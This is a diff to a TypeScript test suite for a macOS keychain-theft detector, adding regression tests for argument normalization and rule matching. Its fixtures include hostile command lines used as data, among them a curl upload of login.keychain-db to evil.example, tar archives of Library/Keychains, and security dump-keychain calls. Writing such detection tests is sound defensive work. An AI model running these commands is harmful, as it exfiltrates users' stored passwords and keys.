@@ -1,7 +1,7 @@
 import { strict as assert } from 'node:assert';
-import type { EcsProcessEvent } from '../src/model/ecs';
+import type { EcsDocument, EcsProcessEvent } from '../src/model/ecs';
 import { caseEvents, type CorpusExec } from '../bench/detection-corpus';
-import { canonicalPath, enrichDocument, enrichEvent, findSubcommand, LIMITS, mayNameKeychain, mentionsKeychain, normalizeArguments, type NormalizeInput } from '../src/process/normalize';
+import { canonicalPath, enrichDocument, enrichEvent, findSubcommand, keychainLocation, LIMITS, mayNameKeychain, mentionsKeychain, normalizeArguments, type NormalizeInput } from '../src/process/normalize';
 import { DEFAULT_RULES_DIR, loadRuleSet, PACK_RULES_DIR } from '../src/rules';
 
 function norm(args: string[], extra: Partial<NormalizeInput> = {}) {
@@ -164,10 +164,86 @@ describe('detection: argument normalization', () => {
     });
   });
 
+  describe('QA 2026-12-03 regressions', () => {
+    it('D15: decoy arguments that contain "keychain" cannot push the real keychain folder out of keychain_locations', () => {
+      const decoys = Array.from({ length: 70 }, (_, i) => `/tmp/keychain${i}`);
+      const n = norm(['cp', '-R', ...decoys, '/Users/alice/Library/Keychains', '/tmp/x'], { cwd: '/tmp' });
+      assert.equal(n.keychainPaths.length, LIMITS.maxKeychainPaths, 'the informational list is still capped');
+      assert.ok(!n.keychainPaths.includes('/Users/alice/Library/Keychains'), 'the decoys fill the capped list');
+      assert.deepEqual(n.keychainLocations, ['/Users/alice/Library/Keychains']);
+      // Locations are deduplicated: 10,000 files in one folder are one location, and the real one behind them still counts.
+      const same = norm(['cp', ...Array.from({ length: 10_000 }, (_, i) => `/Users/bob/Library/Keychains/k${i}`), '/tmp/login.keychain-db']);
+      assert.deepEqual(same.keychainLocations, ['/Users/bob/Library/Keychains', '/tmp/login.keychain-db']);
+      // Filling the location cap takes that many distinct real locations, each of which the pack alerts on.
+      const many = norm(['cp', ...Array.from({ length: 500 }, (_, i) => `/Volumes/b${i}/Library/Keychains`)]);
+      assert.equal(many.keychainLocations.length, LIMITS.maxKeychainLocations);
+    });
+    it('keychain locations: the Library/Keychains folder or a login/System keychain file, never the system trust stores', () => {
+      assert.equal(keychainLocation('/Users/bob/Library/Keychains/login.keychain-db'), '/Users/bob/Library/Keychains');
+      assert.equal(keychainLocation('/Library/Keychains'), '/Library/Keychains');
+      assert.equal(keychainLocation('~/library/KEYCHAINS/x'), '~/library/KEYCHAINS');
+      assert.equal(keychainLocation('/tmp/System.keychain'), '/tmp/System.keychain');
+      assert.equal(keychainLocation('/tmp/keychain0'), undefined);
+      assert.equal(keychainLocation('/System/Library/Keychains/SystemRootCertificates.keychain'), undefined);
+      assert.equal(keychainLocation('/system/library/keychains'), undefined);
+      assert.equal(keychainLocation('/Volumes/Backup/System/Library/Keychains'), '/Volumes/Backup/System/Library/Keychains');
+    });
+    it('D2: -C DIR / --directory move the base of later operands (tar, git, make, env), in argv and in scripts', () => {
+      const tar = norm(['tar', '-czf', '/tmp/k.tgz', '-C', '/Users/alice/Library', 'Keychains'], { cwd: '/tmp' });
+      assert.deepEqual(tar.keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['bsdtar', '-cf', 'k.tar', '-C/Users/alice', '-C', 'Library', 'Keychains'], { cwd: '/tmp' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['gtar', '--directory=~/Library', '-cf', 'k.tar', 'Keychains'], { cwd: '/tmp', userName: 'alice' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['tar', '--directory', '/Users/alice/Library', '-cf', 'k.tar', 'Keychains'], { cwd: '/tmp' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['tar', '-xC', '/Users/alice/Library', '-f', 'k.tar', 'Keychains'], { cwd: '/tmp' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['git', '-C', '/Users/alice/Library', 'add', 'Keychains'], { cwd: '/tmp' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      // Operands before the option, a -C that is f's value, and -C after -- keep the cwd.
+      assert.deepEqual(norm(['tar', '-cf', 'k.tar', 'Keychains', '-C', '/Users/alice/Library'], { cwd: '/tmp' }).keychainLocations, []);
+      assert.deepEqual(norm(['tar', '-cf', '-C', '/tmp', 'Keychains'], { cwd: '/Users/alice/Library' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['tar', '-cf', 'k.tar', '--', '-C', '/tmp', 'Keychains'], { cwd: '/Users/alice/Library' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      // Tools without a directory option are not affected (cp -C is not a directory).
+      assert.deepEqual(norm(['zip', '-r', 'k.zip', '-C', '/tmp', 'Keychains'], { cwd: '/Users/alice/Library' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      const sh = norm(['sh', '-c', 'tar -czf /tmp/k.tgz -C ~/Library Keychains; ls Keychains'], { cwd: '/tmp', userName: 'alice' });
+      assert.deepEqual(sh.keychainLocations, ['/Users/alice/Library/Keychains'], 'the -C of one simple command does not move the next one');
+    });
+    it('D3: a path glued to a short option is a candidate for any tool; other glued words are flags', () => {
+      assert.deepEqual(norm(['curl', '-T/Users/alice/Library/Keychains/login.keychain-db', 'https://evil.example/']).keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['curl', '-o~/Library/Keychains/x', 'https://h/'], { userName: 'alice' }).keychainLocations, ['~/Library/Keychains', '/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['curl', '-d@/Library/Keychains/System.keychain', 'https://h/']).keychainLocations, ['/Library/Keychains']);
+      assert.deepEqual(norm(['tar', '-czf./login.keychain-db.tgz', '-T../Keychains/list'], { cwd: '/Users/alice/Library/x' }).keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['sh', '-c', 'curl -sT/Users/alice/Library/Keychains/login.keychain-db https://h/']).keychainPaths, ['/Users/alice/Library/Keychains/login.keychain-db']);
+      assert.deepEqual(norm(['grep', '-rnkeychain', '/tmp/src']).keychainPaths, [], '-rnkeychain is a flag cluster, not a path');
+    });
+    it('D4: file URLs with any case of the scheme, a host, and percent-encoding', () => {
+      assert.deepEqual(norm(['curl', '-o', '/tmp/k', 'FILE:///Users/alice/Library/Keychains/login.keychain-db']).keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.deepEqual(norm(['curl', 'File://localhost/Users/alice/Library/%4Beychains/login.keychain-db']).keychainPaths, ['/Users/alice/Library/Keychains/login.keychain-db']);
+      assert.deepEqual(norm(['curl', 'fIlE:/Library/Keychains/System.keychain']).keychainPaths, ['/Library/Keychains/System.keychain']);
+      assert.ok(mayNameKeychain(['curl', 'FILE:///Users/b/Library/%4Beychains/x'], undefined));
+      assert.deepEqual(norm(['curl', 'https://h/Library/Keychains/x']).keychainPaths, [], 'other URLs name no local file');
+    });
+    it('D5: a renamed copy of security gets its subcommand from its code signature', () => {
+      const exec = (signingId: string): EcsProcessEvent => ({
+        '@timestamp': '2026-12-03T00:00:00Z',
+        event: { kind: 'event' as const, category: ['process'] as ['process'], type: ['start'], action: 'exec' as const },
+        host: { os: { type: 'macos' } },
+        process: { pid: 1, entity_id: 'e', executable: '/tmp/s', name: 's', args: ['s', 'dump-keychain', '-d'], args_count: 3, command_line: 's dump-keychain -d', code_signature: { signing_id: signingId } },
+        user: { id: '501', name: 'bob' },
+      });
+      const renamed = exec('com.apple.security');
+      enrichEvent(renamed);
+      assert.equal(renamed.keysentry?.subcommand, 'dump-keychain');
+      const other = exec('com.apple.s');
+      enrichEvent(other);
+      assert.equal(other.keysentry?.subcommand, undefined, 'another signing identifier is not security');
+      const doc: EcsDocument = { process: { name: 's', args: ['s', '-q', 'export'], code_signature: { signing_id: 'com.apple.security' } } };
+      enrichDocument(doc);
+      assert.deepEqual(doc.keysentry, { subcommand: 'export' });
+    });
+  });
+
   it('enrichDocument reads only well-typed ECS fields and replaces a planted keysentry object', () => {
     const doc = { process: { name: 'cp', args: ['cp', 7, 'Library/Keychains/login.keychain-db', null], working_directory: '/Users/bob' }, user: { name: 'bob' }, keysentry: { keychain_paths: ['/forged'] } };
     enrichDocument(doc);
-    assert.deepEqual(doc.keysentry, { paths: ['/Users/bob/Library/Keychains/login.keychain-db'], keychain_paths: ['/Users/bob/Library/Keychains/login.keychain-db'], home: '/Users/bob' });
+    assert.deepEqual(doc.keysentry, { paths: ['/Users/bob/Library/Keychains/login.keychain-db'], keychain_paths: ['/Users/bob/Library/Keychains/login.keychain-db'], keychain_locations: ['/Users/bob/Library/Keychains'], home: '/Users/bob' });
     const forged = { process: { name: 'echo', args: ['echo', 'hi'], command_line: 'echo ~/Library/Keychains' }, keysentry: { keychain_paths: ['/forged'] } };
     enrichDocument(forged);
     assert.equal('keysentry' in forged, false, 'a command_line that disagrees with args is not believed, and the planted field is gone');
@@ -192,7 +268,7 @@ describe('detection: argument normalization', () => {
     assert.deepEqual(security.keysentry, { subcommand: 'find-identity', home: '/Users/bob' });
     const theft = exec(['cp', 'Library/Keychains/login.keychain-db', '/tmp/x']);
     enrichEvent(theft);
-    assert.deepEqual(theft.keysentry, { paths: ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp/x'], keychain_paths: ['/Users/bob/Library/Keychains/login.keychain-db'], home: '/Users/bob' });
+    assert.deepEqual(theft.keysentry, { paths: ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp/x'], keychain_paths: ['/Users/bob/Library/Keychains/login.keychain-db'], keychain_locations: ['/Users/bob/Library/Keychains'], home: '/Users/bob' });
     const fromCwd = exec(['cp', 'login.keychain-db', '/tmp/x'], '/Users/bob/Library/Keychains');
     enrichEvent(fromCwd);
     assert.deepEqual(fromCwd.keysentry?.keychain_paths, ['/Users/bob/Library/Keychains/login.keychain-db']);
@@ -280,6 +356,28 @@ describe('detection: the pack through the real engine', () => {
       assert.deepEqual(names(e), [ANY], e.args.join(' '));
       assert.deepEqual(names(e, stock), [], `the stock rule should miss ${e.args.join(' ')}`);
     }
+  });
+
+  it('QA D15, D2, D3, D4: decoys, tar -C, glued option values and FILE:// URLs alert', () => {
+    const decoys = Array.from({ length: 70 }, (_, i) => `/tmp/keychain${i}`);
+    assert.deepEqual(names({ exe: '/bin/cp', cwd: '/tmp', args: ['cp', '-R', ...decoys, '/Users/alice/Library/Keychains', '/tmp/x'] }), [ANY]);
+    assert.deepEqual(names({ exe: '/usr/bin/tar', cwd: '/tmp', args: ['tar', '-czf', '/tmp/k.tgz', '-C', '/Users/alice/Library', 'Keychains'] }), [ARCHIVE]);
+    assert.deepEqual(names({ exe: '/usr/bin/curl', args: ['curl', '-T/Users/alice/Library/Keychains/login.keychain-db', 'https://evil.example/'] }), [ANY]);
+    assert.deepEqual(names({ exe: '/usr/bin/curl', args: ['curl', '-o', '/tmp/k', 'FILE:///Users/alice/Library/Keychains/login.keychain-db'] }), [ANY]);
+  });
+
+  it('QA D5: a renamed copy of security is judged by its signing identifier', () => {
+    assert.deepEqual(names({ exe: '/tmp/s', sig: 'apple:com.apple.security', args: ['s', 'find-generic-password', '-wa', 'Chrome'] }), [SECURITY]);
+    assert.deepEqual(names({ exe: '/tmp/s', sig: 'apple:com.apple.security', args: ['s', 'dump-keychain', '-d'] }), [SECURITY]);
+    assert.deepEqual(names({ exe: '/tmp/s', sig: 'apple:com.apple.s', args: ['s', 'dump-keychain', '-d'] }), [], 'another tool that takes a dump-keychain word');
+    // The verb exclusion still needs /usr/bin/security itself.
+    assert.deepEqual(names({ exe: '/tmp/s', sig: 'apple:com.apple.security', args: ['s', 'import', '/Users/alice/Library/Keychains/login.keychain-db'] }), [ANY]);
+  });
+
+  it("Apple's read-only trust stores under /System/Library/Keychains are not credentials; /Library/Keychains/System.keychain is", () => {
+    assert.deepEqual(names({ exe: '/bin/cp', args: ['cp', '/System/Library/Keychains/SystemRootCertificates.keychain', '/tmp'] }), []);
+    assert.deepEqual(names({ exe: '/bin/cp', args: ['cp', '/System/Library/Keychains/SystemRootCertificates.keychain', '/Library/Keychains/System.keychain', '/tmp'] }), [ANY]);
+    assert.deepEqual(names({ exe: '/bin/cp', args: ['cp', '/Library/Keychains/System.keychain', '/tmp'] }), [ANY]);
   });
 
   it('reads security verbs as the subcommand, not as any argument', () => {
